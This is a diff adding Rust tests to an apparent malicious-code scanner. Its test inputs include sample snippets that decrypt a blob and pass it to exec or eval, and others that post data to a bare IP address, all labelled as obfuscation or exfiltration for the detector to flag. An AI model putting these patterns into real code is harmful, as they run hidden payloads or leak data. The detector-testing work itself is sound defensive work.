@@ -62,6 +62,41 @@ fn what_is_decoded_or_fetched_and_run_is_found() {
 }
 
 #[test]
+fn what_is_decrypted_and_run_is_found_and_what_is_only_decrypted_is_not() {
+    let import = "from cryptography.fernet import Fernet\n";
+    for text in [
+        "exec(Fernet(key).decrypt(blob))",
+        "exec(Fernet(base64.urlsafe_b64encode(key[:32])).decrypt(blob).decode())",
+        "f = Fernet(key)\ncode = f.decrypt(blob)\nexec(code)",
+        "fernet = make(key)\nexec(fernet.decrypt(blob))",
+    ] {
+        assert!(best(&format!("{import}{text}"), OBFUSCATED) >= 0.8, "{text}\n{:?}", code(text));
+    }
+    assert!(best("eval(CryptoJS.AES.decrypt(text, key).toString());", OBFUSCATED) >= 0.8);
+    for text in [
+        "name = Fernet(key).decrypt(blob).decode()\nprint(name)",
+        "f = Fernet(key)\nopen('a.txt', 'wb').write(f.decrypt(blob))",
+        "f = Fernet(key)\nexec(open('a.py').read(), {'lock': f.encrypt(blob)})",
+        "password = vault.decrypt(entry)\nsubprocess.run(['login', password])",
+        "const page = decodeURIComponent(part);\nopen(page);",
+    ] {
+        let text = format!("{import}{text}");
+        assert!(code(&text).iter().all(|one| one.category != OBFUSCATED), "{text}\n{:?}", code(&text));
+    }
+}
+
+#[test]
+fn a_machine_without_a_name_is_one_with_a_user_before_it_as_well() {
+    let sends = |to: &str| best(&format!("import requests\nrequests.post(\"{to}\", json=data)"), EXFILTRATION);
+    for to in ["http://203.0.113.7/", "http://x@203.0.113.7/", "http://x:y@203.0.113.7:80/a", "http://'@203.0.113.7/"] {
+        assert!(sends(to) >= 0.7, "{to}: {}", sends(to));
+    }
+    for to in ["http://203.0.113.7@files.example/", "http://x@10.0.0.7/", "http://files.example/203.0.113.7"] {
+        assert!(sends(to) < 0.6, "{to}: {}", sends(to));
+    }
+}
+
+#[test]
 fn ordinary_code_is_left_alone() {
     for text in [
         "import os, requests\nkey = os.environ['API_KEY']\nrequests.post('https://api.example.com', headers={'Authorization': key}, json={'a': 1})",
@@ -119,7 +154,7 @@ fn letters_that_only_look_like_others_are_told() {
 }
 
 #[test]
-fn bad_input_neither_panics_nor_runs_on() {
+fn bad_input_is_read_without_a_panic_and_spans_lie_in_it() {
     let long = "x".repeat(2_000_000);
     for text in [
         String::new(),
